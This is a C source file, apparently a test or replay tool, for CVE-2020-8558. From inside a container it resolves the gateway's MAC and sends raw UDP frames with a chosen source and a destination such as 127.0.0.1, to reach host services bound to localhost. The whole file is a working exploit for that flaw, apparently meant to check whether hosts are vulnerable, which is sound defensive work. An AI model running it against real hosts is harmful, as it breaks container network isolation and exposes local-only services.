// Sends one hand-built Ethernet + IPv4 + UDP frame from inside a container
// to its gateway's MAC, with any IPv4 source and destination: the
// CVE-2020-8558 replay. A container has NET_RAW by default, so it can put
// 127.0.0.1 in a frame's destination, which the host's stack accepts on a
// bridge with route_localnet=1 unless a rule drops it.
//
// Usage: localnet_frame IFACE GATEWAY SRC DST PORT PAYLOAD
//   SRC "self" takes IFACE's own address. The gateway's MAC is learnt by
//   sending it a UDP datagram (which makes the kernel ARP for it) and reading
//   /proc/net/arp. The frame is sent three times (UDP may lose one).
// Exits 0 once sent, 1 on any error (message on stderr).
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static void die(const char* what) {
  fprintf(stderr, "localnet_frame: %s: %s\n", what, strerror(errno));
  exit(1);
}

static uint16_t ip_checksum(const void* data, size_t len) {
  const uint8_t* p = data;
  uint32_t sum = 0;
  for (size_t i = 0; i + 1 < len; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
  if (len & 1) sum += (uint32_t)(p[len - 1] << 8);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

// The gateway's MAC from the ARP cache, asking the kernel to resolve it first.
static int gateway_mac(const char* iface, const char* gateway, uint8_t mac[6]) {
  int fd = socket(AF_INET, SOCK_DGRAM, 0);
  if (fd < 0) die("socket");
  struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(9)};
  inet_pton(AF_INET, gateway, &sa.sin_addr);
  for (int attempt = 0; attempt < 40; ++attempt) {
    if (attempt % 10 == 0) (void)sendto(fd, "?", 1, 0, (struct sockaddr*)&sa, sizeof sa);
    FILE* arp = fopen("/proc/net/arp", "r");
    if (!arp) die("opening /proc/net/arp");
    char line[256], ip[64], hw[64], dev[64];
    unsigned type, flags;
    while (fgets(line, sizeof line, arp)) {
      if (sscanf(line, "%63s 0x%x 0x%x %63s %*s %63s", ip, &type, &flags, hw, dev) != 5) continue;
      if (strcmp(ip, gateway) != 0 || strcmp(dev, iface) != 0 || !(flags & 0x2)) continue;  // ATF_COM
      if (sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) == 6) {
        fclose(arp);
        close(fd);
        return 0;
      }
    }
    fclose(arp);
    usleep(100 * 1000);
  }
  close(fd);
  fprintf(stderr, "localnet_frame: no ARP entry for %s on %s\n", gateway, iface);
  return -1;
}

int main(int argc, char** argv) {
  if (argc != 7) {
    fprintf(stderr, "usage: localnet_frame IFACE GATEWAY SRC DST PORT PAYLOAD\n");
    return 2;
  }
  const char *iface = argv[1], *gateway = argv[2], *src = argv[3], *dst = argv[4], *payload = argv[6];
  const int port = atoi(argv[5]);
  const size_t payload_len = strlen(payload);
  if (payload_len > 1000 || port <= 0 || port > 65535) {
    fprintf(stderr, "localnet_frame: bad port or payload\n");
    return 2;
  }

  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (fd < 0) die("AF_PACKET socket (NET_RAW?)");
  struct ifreq ifr;
  memset(&ifr, 0, sizeof ifr);
  snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", iface);
  if (ioctl(fd, SIOCGIFINDEX, &ifr) != 0) die("SIOCGIFINDEX");
  const int ifindex = ifr.ifr_ifindex;
  if (ioctl(fd, SIOCGIFHWADDR, &ifr) != 0) die("SIOCGIFHWADDR");
  uint8_t own_mac[6];
  memcpy(own_mac, ifr.ifr_hwaddr.sa_data, 6);
  struct in_addr src_addr, dst_addr;
  if (strcmp(src, "self") == 0) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    ifr.ifr_addr.sa_family = AF_INET;
    if (s < 0 || ioctl(s, SIOCGIFADDR, &ifr) != 0) die("SIOCGIFADDR");
    src_addr = ((struct sockaddr_in*)&ifr.ifr_addr)->sin_addr;
    close(s);
  } else if (inet_pton(AF_INET, src, &src_addr) != 1) {
    fprintf(stderr, "localnet_frame: bad source %s\n", src);
    return 2;
  }
  if (inet_pton(AF_INET, dst, &dst_addr) != 1) {
    fprintf(stderr, "localnet_frame: bad destination %s\n", dst);
    return 2;
  }
  uint8_t gw_mac[6];
  if (gateway_mac(iface, gateway, gw_mac) != 0) return 1;

  uint8_t frame[1514];
  memset(frame, 0, sizeof frame);
  struct ether_header* eth = (struct ether_header*)frame;
  memcpy(eth->ether_dhost, gw_mac, 6);
  memcpy(eth->ether_shost, own_mac, 6);
  eth->ether_type = htons(ETHERTYPE_IP);
  struct iphdr* ip = (struct iphdr*)(frame + sizeof *eth);
  struct udphdr* udp = (struct udphdr*)((uint8_t*)ip + sizeof *ip);
  memcpy((uint8_t*)udp + sizeof *udp, payload, payload_len);
  const size_t udp_len = sizeof *udp + payload_len;
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons((uint16_t)(sizeof *ip + udp_len));
  ip->id = htons(0x4242);
  ip->saddr = src_addr.s_addr;
  ip->daddr = dst_addr.s_addr;
  ip->check = ip_checksum(ip, sizeof *ip);
  udp->source = htons(40000);
  udp->dest = htons((uint16_t)port);
  udp->len = htons((uint16_t)udp_len);
  udp->check = 0;  // optional over IPv4

  struct sockaddr_ll to = {
      .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = ifindex, .sll_halen = 6};
  memcpy(to.sll_addr, gw_mac, 6);
  const size_t len = sizeof *eth + sizeof *ip + udp_len;
  for (int i = 0; i < 3; ++i) {
    if (sendto(fd, frame, len, 0, (struct sockaddr*)&to, sizeof to) != (ssize_t)len) die("sending the frame");
    usleep(50 * 1000);
  }
  printf("sent %s -> %s:%d via %02x:%02x:%02x:%02x:%02x:%02x\n", inet_ntoa(src_addr), dst, port, gw_mac[0], gw_mac[1],
         gw_mac[2], gw_mac[3], gw_mac[4], gw_mac[5]);
  return 0;
}
